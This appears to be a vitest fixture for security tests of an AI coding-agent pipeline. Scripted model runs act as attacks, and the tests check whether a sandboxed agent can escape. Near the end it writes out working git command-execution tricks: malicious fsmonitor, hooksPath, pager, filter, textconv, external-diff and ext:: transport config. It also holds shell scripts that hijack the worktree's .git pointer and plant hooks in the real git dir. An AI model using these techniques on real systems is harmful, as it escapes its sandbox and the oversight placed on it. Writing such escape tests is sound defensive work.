/**
 * A world for attack tests that go through the real pipeline: a tiny target app in a real git repo,
 * the runtime as `loopwright run` opens it (PGlite store, local forge, bwrap sandboxes with their
 * own network namespace, real Chromium for the proof), and the scripted model played through the
 * replay server and the real `openai` client. Tests check outcomes only: files on the host, the
 * published commit in the local forge repo, the ticket and its events.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { openRuntime, type Runtime } from '../../src/cli/runtime.ts';
import { loadConfig } from '../../src/config/load.ts';
import { afterAll, beforeAll } from 'vitest';
import type { TicketEvent } from '../../src/core/events.ts';
import type { Ticket } from '../../src/core/ticket.ts';
import type { LoopOutcome } from '../../src/loop/index.ts';
import { serializeTurn, type ScriptedTurn } from '../../src/loop/replay/trajectory.ts';
import { createReplayLoopRunner } from '../../src/tickets/agents.ts';
import { runTicket, type LoopRunner } from '../../src/tickets/pipeline.ts';
import { memoryLogger } from '../fakes/github/setup.ts';
import { git } from '../helpers/git.ts';
import { isolationSkipReason } from '../sandbox/helpers.ts';
import { dbTemplateEnv } from '../helpers/db-template.ts';

/** Why these tests cannot run here (undefined under CI=true: there a missing piece fails them). */
export const skipReason = isolationSkipReason();

/** The page text the honest change adds; plans expect it. */
export const FEATURE = 'Ready to ship';

/**
 * The target: a server that reads its page from disk on every request (as a dev server does) and,
 * like Vite without `strictPort`, moves to the next port when its own is taken.
 */
export const APP_FILES: Record<string, string> = {
  'package.json':
    '{\n  "name": "shop",\n  "private": true,\n  "scripts": { "start": "node src/server.js" }\n}\n',
  '.gitignore': 'node_modules/\ngen/\n',
  '.loopwright.yml':
    'start: node src/server.js\nready: /health\nroutes: [/]\nchecks:\n  - node --test test\n',
  'AGENTS.md': '# Shop\nThe page is public/index.html, served by src/server.js.\n',
  'public/index.html': '<!doctype html>\n<title>Shop</title>\n<h1>Welcome to the shop</h1>\n',
  'src/server.js': [
    "const http = require('node:http');",
    "const fs = require('node:fs');",
    "const path = require('node:path');",
    '',
    "const page = () => fs.readFileSync(path.join(__dirname, '..', 'public', 'index.html'), 'utf8');",
    '',
    'function listen(port) {',
    '  const server = http.createServer((req, res) => {',
    "    if (req.url === '/health') return res.end('ok');",
    "    res.setHeader('content-type', 'text/html');",
    '    res.end(page());',
    '  });',
    "  server.on('error', (e) => {",
    "    if (e.code !== 'EADDRINUSE') throw e;",
    '    console.log(`port ${port} is in use, trying another one...`);',
    '    listen(port + 1);',
    '  });',
    "  server.listen(port, '127.0.0.1', () => console.log(`listening on ${port}`));",
    '}',
    'listen(Number(process.env.PORT || 3000));',
    '',
  ].join('\n'),
  'test/page.test.js': [
    "const { test } = require('node:test');",
    "const assert = require('node:assert');",
    "const fs = require('node:fs');",
    '',
    "test('the page has a heading', () => {",
    "  assert.match(fs.readFileSync('public/index.html', 'utf8'), /<h1>/);",
    '});',
    '',
  ].join('\n'),
};

/** The honest change: the footer the request asks for. */
export const FOOTER_EDIT: [string, unknown] = [
  'edit_file',
  {
    path: 'public/index.html',
    old_string: '<h1>Welcome to the shop</h1>\n',
    new_string: `<h1>Welcome to the shop</h1>\n<footer>${FEATURE}</footer>\n`,
  },
];

export const REQUEST = `Add a footer to the shop page that says "${FEATURE}".`;

/** A plan that fails on the base page and passes once the footer is there. */
export const FOOTER_PLAN = {
  title: 'The footer says it is ready to ship',
  steps: [
    { action: 'goto', url: '/' },
    { action: 'expect_visible', target: { text: FEATURE } },
  ],
};

/** A plan that passes on the base page too: it proves nothing. */
export const BASE_PASSING_PLAN = {
  title: 'The shop page has its heading',
  steps: [
    { action: 'goto', url: '/' },
    { action: 'expect_visible', target: { role: 'heading', name: 'Welcome to the shop' } },
  ],
};

/** Shorthand for one assistant response with several tool calls. */
export const turn = (
  agent: ScriptedTurn['agent'],
  calls: [string, unknown][],
  extra: Partial<ScriptedTurn> = {},
): ScriptedTurn => ({ agent, tool_calls: calls.map(([tool, args]) => ({ tool, args })), ...extra });

export const run = (command: string): [string, unknown] => ['run_command', { command }];
export const submit = (plan: unknown): [string, unknown] => ['submit_verification', { plan }];
export const finish = (title = 'Add the ready-to-ship footer'): [string, unknown] => [
  'finish',
  { title, summary: `The shop page has a footer saying "${FEATURE}". Proven in the browser.` },
];
export const APPROVE = turn('reviewer', [['submit_review', { verdict: 'approve', comments: [] }]]);

export interface TicketRun {
  ticket: Ticket;
  /** Every event the loop yielded (proof outcomes, tool results, errors). */
  events: TicketEvent[];
  outcome?: LoopOutcome;
  /** Why the ticket ended as it did, for assertion messages. */
  diag: string;
}

export interface Published {
  branch: string;
  draft: boolean;
  files: string[];
  /** A file of the published commit; undefined when the commit lacks it. */
  read(file: string): string | undefined;
}

export interface SecurityWorld {
  root: string;
  home: string;
  /** A host directory no sandboxed process can reach: attack scripts aim their markers here. */
  outside: string;
  rt: Runtime;
  /** Runs one ticket end to end with a scripted model (or any loop runner). */
  runTicket(script: ScriptedTurn[] | LoopRunner, request?: string): Promise<TicketRun>;
  /** The commit the local forge holds for the ticket's PR, if one was published. */
  published(ticket: Ticket): Published | undefined;
  /** Marker files attack scripts left outside the sandbox, by name, with their distinct lines. */
  markers(): Record<string, string>;
  close(): Promise<void>;
}

/** Opens a world on `base` (APP_FILES unless given) plus `extra` files, committed on `main`. */
export async function openWorld(
  extra: Record<string, string | Buffer> = {},
  base: Record<string, string | Buffer> = APP_FILES,
): Promise<SecurityWorld> {
  const root = mkdtempSync(path.join(os.tmpdir(), 'lw-sec-'));
  const home = path.join(root, 'home');
  const outside = path.join(root, 'outside');
  const repo = path.join(root, 'repo');
  mkdirSync(outside);
  for (const [rel, text] of Object.entries({ ...base, ...extra })) {
    mkdirSync(path.dirname(path.join(repo, rel)), { recursive: true });
    writeFileSync(path.join(repo, rel), text);
  }
  git(repo, 'init', '-q', '-b', 'main');
  git(repo, 'add', '-A');
  git(repo, 'commit', '-qm', 'shop');

  const logs = memoryLogger();
  const config = {
    ...loadConfig({
      cwd: root,
      env: {
        ...dbTemplateEnv(),
        LOOPWRIGHT_HOME: home,
        LOOPWRIGHT_REPO: repo,
        LOOPWRIGHT_TARGET: 'shop',
        LOOPWRIGHT_POOL_SIZE: '0',
        LOOPWRIGHT_PUBLIC_URL: 'http://127.0.0.1:4700',
      },
    }),
    // One attempt: a retry would hide what the first one did.
    maxAttempts: 1,
  };
  const rt = await openRuntime(config, { log: logs.log, scriptedFallback: true });
  let n = 0;

  return {
    root,
    home,
    outside,
    rt,
    async runTicket(script, request = REQUEST) {
      let runLoop: LoopRunner;
      if (typeof script === 'function') runLoop = script;
      else {
        const file = path.join(root, `trajectory-${++n}.jsonl`);
        writeFileSync(file, script.map(serializeTurn).join('\n') + '\n');
        runLoop = createReplayLoopRunner({ config: rt.config, trajectory: file });
      }
      const events: TicketEvent[] = [];
      let outcome: LoopOutcome | undefined;
      const recording: LoopRunner = async function* (input) {
        const inner = runLoop(input);
        for (;;) {
          const next = await inner.next();
          if (next.done) return (outcome = next.value);
          events.push(next.value);
          yield next.value;
        }
      };
      const { ticket: submitted } = await rt.tickets.store.submit(
        { target: 'shop', request: { text: request, source: 'cli', requester: 'mallory' } },
        { enqueue: false },
      );
      const { ticket } = await runTicket(
        { ...rt.pipeline(), store: rt.tickets.store, runLoop: recording },
        submitted.id,
      );
      const proofs = events.flatMap((e) => (e.type === 'proof' ? [`${e.outcome}: ${e.detail}`] : []));
      const errors = events.flatMap((e) => (e.type === 'error' ? [`${e.code}: ${e.message}`] : []));
      const diag = [
        `status ${ticket.status}, error ${JSON.stringify(ticket.error)}, pr ${JSON.stringify(ticket.pr)}`,
        `proofs: ${proofs.join(' | ') || 'none'}`,
        `errors: ${errors.join(' | ') || 'none'}`,
        logs.lines.join('').slice(-600),
      ].join('\n');
      return { ticket, events, outcome, diag };
    },
    published(ticket) {
      if (!ticket.pr) return undefined;
      const repoPath = rt.localForge!.repoPath;
      const ref = `refs/heads/${ticket.pr.branch}`;
      const files = git(repoPath, 'ls-tree', '-r', '--name-only', ref).split('\n').filter(Boolean);
      return {
        branch: ticket.pr.branch,
        draft: ticket.pr.draft,
        files,
        read: (file) => (files.includes(file) ? git(repoPath, 'show', `${ref}:${file}`) : undefined),
      };
    },
    markers: () =>
      Object.fromEntries(
        readdirSync(outside).map((f) => {
          const lines = readFileSync(path.join(outside, f), 'utf8').split('\n').filter(Boolean);
          return [f, [...new Set(lines.map((l) => l.replaceAll(root, '<root>').trim()))].join('\n')];
        }),
      ),
    async close() {
      await rt.close();
      rmSync(root, { recursive: true, force: true });
    },
  };
}

/** Proof outcomes in the order the loop reported them. */
export const proofOutcomes = (events: TicketEvent[]): string[] =>
  events.flatMap((e) => (e.type === 'proof' ? [e.outcome] : []));

/**
 * Every way of making git run a command that the attack tests know, in one git config: fsmonitor,
 * hooksPath and pager (core), a clean filter and a textconv driver (named by attributes),
 * diff.external, and a push rewritten to the ext:: transport. `$d` is the agent's cache directory
 * in the script of `gitEscapeSetup`.
 */
export const ALL_GIT_ESCAPES: string[] = [
  `printf '\\tfsmonitor = %s/x.sh fsmonitor\\n' "$d"`,
  `printf '\\thooksPath = %s/hooks\\n' "$d"`,
  `printf '\\tpager = %s/x.sh pager\\n' "$d"`,
  `printf '[filter "evil"]\\n\\tclean = %s/x.sh clean\\n\\tsmudge = cat\\n' "$d"`,
  `printf '[diff "evil"]\\n\\ttextconv = %s/x.sh textconv\\n' "$d"`,
  `printf '[diff]\\n\\texternal = %s/x.sh ext-diff\\n' "$d"`,
  `printf '[protocol "ext"]\\n\\tallow = always\\n'`,
  `printf '[url "ext::sh %s/x.sh transport %%S /"]\\n\\tpushInsteadOf = /\\n' "$d"`,
];

/** The attributes that name the filter and the textconv driver of ALL_GIT_ESCAPES. */
export const EVIL_ATTRIBUTES = '* filter=evil\n*.html diff=evil\n*.js diff=evil\n';

/**
 * A shell script, run in the worktree, that points the worktree's `.git` at a repository of the
 * agent's own under `dir` (objects borrowed from the real mirror through alternates, so git keeps
 * working), whose config holds `configLines` and whose `info/attributes` holds `attributes`.
 * Every command it names is `x.sh <variant>`, which appends the git command line that ran it to
 * `<outside>/<variant>` (a host directory no sandboxed process can reach) and then does the job git
 * expects of that command. Core lines of `configLines` come first (they land under `[core]`).
 */
export function gitEscapeSetup(opts: {
  outside: string;
  dir: string;
  configLines: string[];
  attributes?: string;
}): string {
  return [
    '#!/bin/sh',
    'set -e',
    `d="$PWD/${opts.dir}"`,
    'mkdir -p "$d/repo/objects/info" "$d/repo/refs/heads" "$d/repo/info" "$d/hooks"',
    `sed -n 's#^gitdir: \\(.*\\)/worktrees/[^/]*$#\\1/objects#p' .git > "$d/repo/objects/info/alternates"`,
    `echo 'ref: refs/heads/main' > "$d/repo/HEAD"`,
    `printf '${opts.dir}/\\n' > "$d/repo/info/exclude"`,
    `printf '%s' '${opts.attributes ?? ''}' > "$d/repo/info/attributes"`,
    `cat > "$d/x.sh" <<'EOF'`,
    '#!/bin/sh',
    'v=$1; shift',
    "p=$(tr '\\0' ' ' < /proc/$PPID/cmdline)",
    "g=$(awk '{print $4}' /proc/$PPID/stat)",
    "case $p in git\\ *) ;; *) p=$(tr '\\0' ' ' < /proc/$g/cmdline) ;; esac",
    `echo "$p" >> ${opts.outside}/$v 2>/dev/null || true`,
    'case $v in',
    '  clean) cat ;;',
    '  textconv) cat "$1" ;;',
    '  ext-diff) diff -u --label "a/$1" --label "b/$1" "$2" "$5" || true ;;',
    '  transport) exec git "$@" ;;',
    'esac',
    'exit 0',
    'EOF',
    'chmod +x "$d/x.sh"',
    'for h in pre-commit post-commit pre-push post-index-change reference-transaction post-checkout post-rewrite; do',
    `  printf '#!/bin/sh\\nexec %s/x.sh hook-%s "$@"\\n' "$d" "$h" > "$d/hooks/$h"`,
    '  chmod +x "$d/hooks/$h"',
    'done',
    '{',
    `  printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n'`,
    ...opts.configLines.map((l) => `  ${l}`),
    '} > "$d/repo/config"',
    `printf 'gitdir: %s/repo\\n' "$d" > .git`,
    'echo swapped',
    '',
  ].join('\n');
}

/**
 * The next try when the `.git` pointer is read-only: the config, hooks and attributes that
 * `gitEscapeSetup` left under `dir` go into the git dir the pointer names (its `config.worktree`,
 * the common dir's `config`, `hooks/` and `info/attributes`).
 */
export const gitDirFallback = (dir: string): string =>
  [
    '#!/bin/sh',
    "gd=$(sed -n 's/^gitdir: //p' .git)",
    '[ -n "$gd" ] || exit 0',
    'for t in "$gd/config.worktree" "$gd/../../config"; do',
    `  cat ${dir}/repo/config >> "$t" 2>/dev/null && echo "appended to $t" || echo "cannot write $t"`,
    'done',
    `cp ${dir}/hooks/* "$gd/../../hooks/" 2>/dev/null && echo "hooks copied" || echo "cannot copy hooks"`,
    `cp ${dir}/repo/info/attributes "$gd/../../info/attributes" 2>/dev/null && echo "attributes copied" || echo "cannot copy attributes"`,
    '',
  ].join('\n');

/** Opens one world for the enclosing describe block and closes it after; tests read it through the getter. */
export function useWorld(): () => SecurityWorld {
  let w: SecurityWorld | undefined;
  beforeAll(async () => {
    w = await openWorld();
  }, 120_000);
  afterAll(async () => {
    await w?.close();
  });
  return () => w!;
}
